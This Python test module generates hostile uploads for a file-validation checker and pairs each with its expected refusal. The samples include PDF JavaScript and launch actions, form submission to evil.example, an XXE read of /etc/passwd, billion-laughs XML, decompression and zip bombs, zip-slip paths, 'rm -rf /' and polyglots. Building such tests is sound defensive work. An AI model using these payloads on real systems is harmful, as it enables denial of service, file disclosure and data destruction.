"""Hostile files, each with what is to become of it: refused with a sentence that helps, or harmless.

They are made here, not kept: so it is plain what each is about, and nobody's scanner minds the checkout.
"""

import gzip
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any, NamedTuple

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import NameObject

from contest.files import look
from tests import make
from tests.files.telling import add, pdf

HARMLESS = ""  # taken, and does nothing
NO_PDF, DAMAGED, CUT = "This is not a PDF", "damaged", "ends too early"
UNSAFE, LOCKED, LONG = "cannot be read safely", "password", "more pages than anybody reads"
NO_DOCUMENT, MACROS, LARGE = "Files of this kind are not taken", "contains macros", "too large"
PDF, DOCUMENTS = frozenset({look.PDF}), frozenset(look.DOCUMENTS)
MIB = 1024 * 1024
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CALL = "app.alert(1)"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


class Sample(NamedTuple):
    """A file, and a part of the sentence that refuses it: any of several where libraries may differ."""

    name: str
    content: Callable[[], bytes]
    refusal: str | tuple[str, ...]
    types: frozenset[str] = PDF

    def is_answered(self, reason: str) -> bool:
        wanted = (self.refusal,) if isinstance(self.refusal, str) else self.refusal
        return any((part in reason) if part else not reason for part in wanted)


def raw(*objects: bytes, trailer: bytes = b"/Root 1 0 R", version: bytes = b"1.7") -> bytes:
    """Return a PDF of these objects, numbered from 1, with a table that is right."""
    made, places = b"%PDF-" + version + b"\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return made + b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d %b>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, table, len(objects) + 1, trailer, len(made),
    )  # fmt: skip


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def page(drawing: bytes = b"", *, box: bytes = b"0 0 960 540", more: bytes = b"", packed: bytes = b"",
         others: tuple[bytes, ...] = ()) -> bytes:  # fmt: skip
    """Return a PDF of one page with this drawing; `others` are objects from number 5 on."""
    return raw(
        CATALOG,
        ONE_PAGE,
        b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents 4 0 R %b>>" % (box, more),
        stream(drawing, packed),
        *others,
    )


def stream(body: bytes, words: bytes = b"") -> bytes:
    return b"<</Length %d %b>>stream\n%b\nendstream" % (len(body), words, body)


def bomb(size: int, *, times: int = 1) -> bytes:
    """Return a packed text that unpacks, packed again so many times, to that many noughts."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(bytes(MIB)) for _ in range(size // MIB)) + packer.flush()
    for _ in range(times - 1):
        body = zlib.compress(body, 9)
    return body


def active(root: dict[str, Any] | None = None, on_page: dict[str, Any] | None = None) -> bytes:
    """Return a PDF with more words in its catalog and on its page."""
    writer = PdfWriter()
    sheet = writer.add_blank_page(width=960, height=540)
    for place, words in ((writer.root_object, root), (sheet, on_page)):
        place.update(pdf(words or {}))
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def script(text: str = CALL) -> dict[str, Any]:
    return {"/S": "/JavaScript", "/JS": text}


def annotation(kind: str, **words: Any) -> dict[str, Any]:
    more = {f"/{key}": value for key, value in words.items()}
    return {"/Annots": [{"/Type": "/Annot", "/Subtype": kind, "/Rect": [0, 0, 900, 500], **more}]}


def embedded() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=960, height=540)
    writer.add_attachment("setup.exe", b"MZ" + EICAR)
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def laughs() -> bytes:
    """Return a description whose entities say one another ten times over."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{lines}]><x>&l9;</x>'.encode()


def described() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=960, height=540)
    writer.root_object[NameObject("/Metadata")] = add(
        writer, laughs(), Type="/Metadata", Subtype="/XML"
    )
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def drawn(kind: str, mode: str = "RGB", size: tuple[int, int] = (10, 10)) -> bytes:
    made = BytesIO()
    Image.new(mode, size).save(made, kind)
    return made.getvalue()


def png(width: int, height: int) -> bytes:
    """Return a PNG that says it is so large and has the noughts for it."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", bomb(8 * MIB))
        + chunk(b"IEND", b"")
    )


def packed(parts: dict[str, bytes], kind: str = f"{WORD}.main+xml") -> bytes:
    """Return an Office file with these parts beside its list of contents."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        listed = f'<Types><Override ContentType="{kind}"/></Types>' if kind else ""
        if listed:
            file.writestr("[Content_Types].xml", listed)
        for name, body in parts.items():
            file.writestr(name, body)
    return made.getvalue()


def many_parts() -> bytes:
    return packed({f"word/{n}": b"" for n in range(20_000)})


def lying_zip() -> bytes:
    """Return an archive that says at its end that it has no parts, and has a thousand million."""
    good = packed({"word/document.xml": b"x"})
    place = good.rfind(b"PK\5\6")
    return good[: place + 8] + struct.pack("<HHII", 65535, 65535, 2**31, 0) + good[place + 20 :]


def overlapping() -> bytes:
    """Return an archive many of whose parts are the same bytes."""
    good = packed({"word/document.xml": bomb(64 * MIB)}, kind="")
    place = good.rfind(b"PK\1\2")
    end = good.rfind(b"PK\5\6")
    entry, count = good[place:end], 4000
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entry) * count, place, 0)
    return good[:place] + entry * count + tail


def loop(kind: str) -> bytes:
    """Return a page that draws something which draws itself."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 960 540]/Resources<</XObject<</F 5 0 R>>/Pattern<</P 5 0 R>>>>"
    tile = (b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .0001/YStep .0001"
            b"/Resources<</Pattern<</P 5 0 R>>>>")  # fmt: skip
    resources = b"/Resources<</XObject<</F 5 0 R>>/Pattern<</P 5 0 R>>>>"
    if kind == "form":
        return page(b"/F Do", more=resources, others=(stream(b"/F Do /F Do", form),))
    fill = b"/Pattern cs /P scn 0 0 960 540 re f"
    return page(fill, more=resources, others=(stream(b"/Pattern cs /P scn 0 0 9 9 re f", tile),))


def deep_tree(depth: int) -> bytes:
    """Return a PDF whose one page stands below so many others."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 3) for n in range(depth)]
    leaf = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 960 540]>>" % (depth + 1)
    return raw(CATALOG, *nodes, leaf)


def shared_pages(count: int, said: int | None = None) -> bytes:
    """Return a PDF with one page that is listed so many times."""
    kids = b"3 0 R " * count
    tree = b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count if said is None else said)
    return raw(CATALOG, tree, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 960 540]>>")


def image_on_page(width: int, height: int, body: bytes, words: bytes) -> bytes:
    said = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8 %b" % (
        width, height, words,
    )  # fmt: skip
    return page(
        b"960 0 0 540 0 0 cm /I Do",
        more=b"/Resources<</XObject<</I 5 0 R>>>>",
        others=(stream(body, said),),
    )


def object_stream() -> bytes:
    body = bomb(512 * MIB)
    return raw(CATALOG, ONE_PAGE, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
               stream(body, b"/Type/ObjStm/N 100000/First 10/Filter/FlateDecode"))  # fmt: skip


def table_stream(size: int, width: int) -> bytes:
    """Return a PDF whose table of objects is packed and says it is enormous."""
    good = raw(CATALOG, ONE_PAGE, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>").partition(
        b"xref"
    )[0]
    words = b"/Type/XRef/Size %d/W[%d %d %d]/Root 1 0 R/Filter/FlateDecode" % (
        size,
        width,
        width,
        width,
    )
    return good + b"9 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        stream(bomb(MIB), words),
        len(good),
    )


def fine() -> bytes:
    return make.pdf(pages=2)


def with_tail(tail: bytes) -> bytes:
    return fine() + tail


def updated(times: int) -> bytes:
    """Return a PDF that was changed so many times, each time by something behind its end."""
    made = fine()
    for _ in range(times):
        at = made.rfind(b"startxref")
        before = made[at:].split()[1]
        place = len(made)
        made += b"xref\n0 0\ntrailer\n<</Size 9/Root 3 0 R/Prev %b>>\nstartxref\n%d\n%%%%EOF\n" % (
            before,
            place,
        )
    return made


def owner_only() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=960, height=540)
    writer.encrypt("", owner_password="secret", algorithm="AES-256")
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
XXE = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
RESOURCES = b"/Resources<</Font<</F 5 0 R>>/XObject<</I 5 0 R>>/Shading<</S 5 0 R>>>>"

ACTIVE = [
    Sample("javascript when opened", lambda: active({"/OpenAction": script()}), HARMLESS),
    Sample("javascript by name", lambda: active({"/Names": {"/JavaScript": {"/Names": ["a", script()]}}}), HARMLESS),
    Sample("javascript on a page", lambda: active(on_page={"/AA": {"/O": script()}}), HARMLESS),
    Sample("javascript on a note", lambda: active(on_page=annotation("/Link", A=script())), HARMLESS),
    Sample("launch", lambda: active({"/OpenAction": {"/S": "/Launch", "/F": "cmd.exe", "/Win": {"/F": "cmd.exe"}}}),
           HARMLESS),
    Sample("address when opened", lambda: active({"/OpenAction": {"/S": "/URI", "/URI": "http://evil.example"}}), HARMLESS),
    Sample("javascript address", lambda: active(on_page=annotation("/Link", A={"/S": "/URI", "/URI": f"javascript:{CALL}"})),
           HARMLESS),
    Sample("form that sends itself", lambda: active({"/OpenAction": {"/S": "/SubmitForm", "/F": "http://evil.example"}}),
           HARMLESS),
    Sample("file elsewhere", lambda: active({"/OpenAction": {"/S": "/GoToR", "/F": "\\\\evil.example\\share"}}), HARMLESS),
    Sample("XFA", lambda: active({"/AcroForm": {"/XFA": XXE, "/Fields": []}}), HARMLESS),
    Sample("rich media", lambda: active(on_page=annotation("/RichMedia", RichMediaContent={})), HARMLESS),
    Sample("film", lambda: active(on_page=annotation("/Movie", Movie={"/F": "http://evil.example/a.swf"})), HARMLESS),
    Sample("embedded program", embedded, HARMLESS),
    Sample("entities in its description", described, HARMLESS),
    Sample("stream in a file of ours", lambda: page(b"", packed=b"/F(/etc/passwd)"), HARMLESS),
    Sample("picture in a file of ours", lambda: image_on_page(9, 9, b"", b"/F(/etc/passwd)"), HARMLESS),
]  # fmt: skip
POLYGLOTS = [
    Sample("PDF that is a page behind", lambda: with_tail(HTML), HARMLESS),
    Sample("PDF that is a page inside", lambda: b"%PDF-1.7\n%" + HTML + b"\n" + fine()[9:], (HARMLESS, DAMAGED)),
    Sample("PDF that is an archive", lambda: with_tail(packed({"a.js": b"x"}, kind="")), HARMLESS),
    Sample("PDF that is a script", lambda: b"%PDF-1.7\n%/*\n" + fine()[9:] + b"\n%*/alert(1)", (HARMLESS, DAMAGED)),
    Sample("page that is a PDF", lambda: HTML + fine(), NO_PDF),
    Sample("GIF that is a PDF", lambda: drawn("GIF", "P") + fine(), NO_PDF),
    Sample("GIF that is a script", lambda: b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)", NO_PDF),
    Sample("archive that is a PDF", lambda: packed({"a": b"x"}, kind="") + fine(), NO_PDF),
    Sample("program that is a PDF", lambda: b"MZ" + bytes(90) + fine(), NO_PDF),
    Sample("PNG that is a PDF", lambda: drawn("PNG") + fine(), NO_PDF),
    Sample("JPEG that is a page", lambda: drawn("JPEG") + HTML, NO_PDF),
    Sample("PNG that is a page, among documents", lambda: drawn("PNG") + HTML, HARMLESS, DOCUMENTS),
    Sample("page that is a picture, among documents", lambda: HTML + drawn("PNG"), NO_DOCUMENT, DOCUMENTS),
    Sample("archive that is a page, among documents", lambda: packed({"index.html": HTML}, kind=""), NO_DOCUMENT, DOCUMENTS),
]  # fmt: skip
NOT_PDF = [
    Sample("nothing", bytes, "empty"),
    Sample("too much", lambda: fine() + bytes(32 * MIB), "larger than"),
    Sample("noughts", lambda: bytes(MIB), NO_PDF),
    Sample("page", lambda: HTML, NO_PDF),
    Sample("drawing with a script", lambda: SVG, NO_PDF),
    Sample("drawing with a script, among documents", lambda: SVG, NO_DOCUMENT, DOCUMENTS),
    Sample("entities", laughs, NO_PDF),
    Sample("file of ours as an entity", lambda: XXE, NO_PDF),
    Sample("program", lambda: b"MZ\x90" + bytes(500), NO_PDF),
    Sample("program of Linux", lambda: b"\x7fELF" + bytes(500), NO_PDF),
    Sample("shell script", lambda: b"#!/bin/sh\nrm -rf /\n", NO_PDF),
    Sample("PostScript", lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) run", NO_PDF),
    Sample("rich text", lambda: b"{\\rtf1\\object}", NO_PDF),
    Sample("Word", lambda: packed({}), NO_PDF),
    Sample("picture", lambda: drawn("PNG"), NO_PDF),
    Sample("packed noughts", lambda: gzip.compress(bytes(64 * MIB)), NO_PDF),
    Sample("scanner's test", lambda: EICAR, NO_PDF),
    Sample("half a sentence", lambda: b"%PDF", NO_PDF),
    Sample("wide letters", lambda: fine().decode("latin-1").encode("utf-16"), NO_PDF),
]
BROKEN = [
    Sample("head alone", lambda: b"%PDF-1.7\n%%EOF", DAMAGED),
    Sample("head and noise", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400, DAMAGED),
    Sample("half", lambda: fine()[: len(fine()) // 2], DAMAGED),
    Sample("without its end", lambda: fine()[:-6], CUT),
    Sample("locked", lambda: make.pdf(pages=1, password="secret"), LOCKED),
    Sample("locked for changes", owner_only, (HARMLESS, LOCKED)),
    Sample("unknown lock", lambda: raw(CATALOG, ONE_PAGE, b"<</Type/Page>>", trailer=b"/Root 1 0 R/Encrypt<</Filter/X/V 9>>"),
           (LOCKED, DAMAGED)),
    Sample("no pages", lambda: raw(CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"), DAMAGED),
    Sample("no catalog", lambda: raw(b"<<>>", b"<<>>"), DAMAGED),
    Sample("pages that hold themselves", lambda: raw(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"), DAMAGED),
    Sample("table beside itself", lambda: fine().replace(b"startxref\n", b"startxref\n9"), (HARMLESS, DAMAGED)),
    Sample("table that follows itself", lambda: raw(CATALOG, ONE_PAGE, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
           trailer=b"/Root 1 0 R/Prev 9"), (HARMLESS, DAMAGED)),
    Sample("table of a thousand million", lambda: table_stream(2**31 - 1, 4), (HARMLESS, DAMAGED, UNSAFE)),
    Sample("table of wide columns", lambda: table_stream(9, 2**30), (HARMLESS, DAMAGED, UNSAFE)),
    Sample("stream of another length", lambda: page(b"q").replace(b"/Length 1 ", b"/Length 2147483647 "), (HARMLESS, DAMAGED)),
    Sample("length of itself", lambda: page(b"q").replace(b"/Length 1 ", b"/Length 4 0 R "), (HARMLESS, DAMAGED)),
    Sample("object of a large number", lambda: fine() .replace(b"1 0 obj", b"99999999999 0 obj"), (HARMLESS, DAMAGED)),
]  # fmt: skip
BOMBS = [
    Sample("deep arrays", lambda: page(b"", more=b"/X " + b"[" * 200_000 + b"]" * 200_000), (HARMLESS, DAMAGED, UNSAFE)),
    Sample("deep dictionaries", lambda: page(b"", more=b"/X" + b"<</X" * 100_000 + b" 1" + b">>" * 100_000),
           (HARMLESS, DAMAGED, UNSAFE)),
    Sample("open brackets", lambda: page(b"", more=b"/X " + b"(" * MIB), (HARMLESS, DAMAGED, UNSAFE)),
    Sample("long name", lambda: page(b"", more=b"/" + b"A" * MIB + b" 1"), HARMLESS),
    Sample("deep tree", lambda: deep_tree(3000), (HARMLESS, DAMAGED, UNSAFE)),
    Sample("changed a thousand times", lambda: updated(1000), (HARMLESS, DAMAGED, UNSAFE)),
    Sample("one page a thousand times", lambda: shared_pages(1000), "are taken"),
    Sample("one page a million times", lambda: shared_pages(1_000_000), (LONG, DAMAGED)),
    Sample("a thousand million pages, it says", lambda: shared_pages(1, 10**9), (LONG, DAMAGED, HARMLESS)),
    Sample("a page fewer than none, it says", lambda: shared_pages(1, -1), (DAMAGED, HARMLESS)),
    Sample("page as large as a country", lambda: page(b"0 0 9 9 re f", box=b"0 0 1e9 1e9"), (DAMAGED, HARMLESS)),
    Sample("page of no size", lambda: page(box=b"0 0 0 0"), (DAMAGED, HARMLESS)),
    Sample("page inside out", lambda: page(box=b"9 9 -9e30 -9e30"), (DAMAGED, HARMLESS)),
    Sample("page like a thread", lambda: page(box=b"0 0 1 14400"), (DAMAGED, HARMLESS)),
    Sample("page of huge units", lambda: page(more=b"/UserUnit 1e30"), (DAMAGED, HARMLESS)),
    Sample("packed drawing", lambda: page(bomb(600 * MIB), packed=b"/Filter/FlateDecode"), (HARMLESS, UNSAFE)),
    Sample("drawing packed twice", lambda: page(bomb(300 * MIB, times=2), packed=b"/Filter[/FlateDecode/FlateDecode]"),
           (HARMLESS, UNSAFE)),
    Sample("packed objects", object_stream, (HARMLESS, DAMAGED, UNSAFE)),
    Sample("picture of 900 million points", lambda: image_on_page(30_000, 30_000, bomb(900 * MIB), b"/Filter/FlateDecode"),
           (HARMLESS, UNSAFE)),
    Sample("torn JPEG 2000", lambda: image_on_page(9, 9, b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 500, b"/Filter/JPXDecode"), HARMLESS),
    Sample("torn JBIG2", lambda: image_on_page(60_000, 60_000, b"\xff" * 500, b"/Filter/JBIG2Decode"), HARMLESS),
    Sample("torn fax", lambda: image_on_page(60_000, 9, b"\xff" * 500, b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2147483647>>"),
           HARMLESS),
    Sample("form that draws itself", lambda: loop("form"), HARMLESS),
    Sample("pattern that draws itself", lambda: loop("pattern"), HARMLESS),
    Sample("a million brushes", lambda: page(b"q " * MIB), HARMLESS),
    Sample("a million curves", lambda: page(b"0 0 m " + b"1 1 2 2 9 9 c " * 200_000 + b"S"), HARMLESS),
    Sample("torn font", lambda: page(b"BT /F 9 Tf (x) Tj ET", more=RESOURCES, others=(
           b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>",
           b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R>>", stream(b"\0\1\0\0" + b"\xff" * 2000))), HARMLESS),
    Sample("font that writes with itself", lambda: page(b"BT /F 9 Tf (aa) Tj ET", more=RESOURCES, others=(
           b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>",
           stream(b"BT /F 9 Tf (aa) Tj ET"))), HARMLESS),
    Sample("shading without end", lambda: page(b"/S sh", more=RESOURCES, others=(
           b"<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1e9 0 1e9]/Function<</FunctionType 2/N 1e9/Domain[0 1]>>>>",)),
           HARMLESS),
]  # fmt: skip
DOCUMENT_ZOO = [
    Sample("macros", lambda: packed({"word/vbaProject.bin": b"x"}), MACROS, DOCUMENTS),
    Sample("macros by kind", lambda: packed({}, "application/vnd.ms-word.document.macroEnabled.main+xml"), MACROS, DOCUMENTS),
    Sample("old Word", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "of an old kind", DOCUMENTS),
    Sample("part that leads out", lambda: packed({"../../etc/cron.d/x": b"x"}), DAMAGED, DOCUMENTS),
    Sample("part at the root", lambda: packed({"/etc/passwd": b"x"}), DAMAGED, DOCUMENTS),
    Sample("part of another disk", lambda: packed({"C:\\x": b"x"}), DAMAGED, DOCUMENTS),
    Sample("packed noughts in Word", lambda: packed({"word/document.xml": bytes(600 * MIB)}), DAMAGED, DOCUMENTS),
    Sample("twenty thousand parts", many_parts, DAMAGED, DOCUMENTS),
    Sample("archive that lies", lying_zip, DAMAGED, DOCUMENTS),
    Sample("parts over one another", overlapping, (DAMAGED, NO_DOCUMENT), DOCUMENTS),
    Sample("contents of a million lines", lambda: packed({}, "x" * 3 * MIB), DAMAGED, DOCUMENTS),
    Sample("entities in Word", lambda: packed({"word/document.xml": laughs()}), HARMLESS, DOCUMENTS),
    Sample("torn archive", lambda: packed({"a": b"x" * 999})[:-9], DAMAGED, DOCUMENTS),
    Sample("picture of 2500 million points", lambda: png(50_000, 50_000), LARGE, DOCUMENTS),
    Sample("picture of 60 million points", lambda: png(10_000, 6_000), LARGE, DOCUMENTS),
    Sample("torn picture", lambda: drawn("PNG")[:40], (DAMAGED, NO_DOCUMENT), DOCUMENTS),
    Sample("GIF among documents", lambda: drawn("GIF", "P"), NO_DOCUMENT, DOCUMENTS),
    Sample("TIFF among documents", lambda: drawn("TIFF"), NO_DOCUMENT, DOCUMENTS),
]  # fmt: skip
ZOO = [*ACTIVE, *POLYGLOTS, *NOT_PDF, *BROKEN, *BOMBS, *DOCUMENT_ZOO]
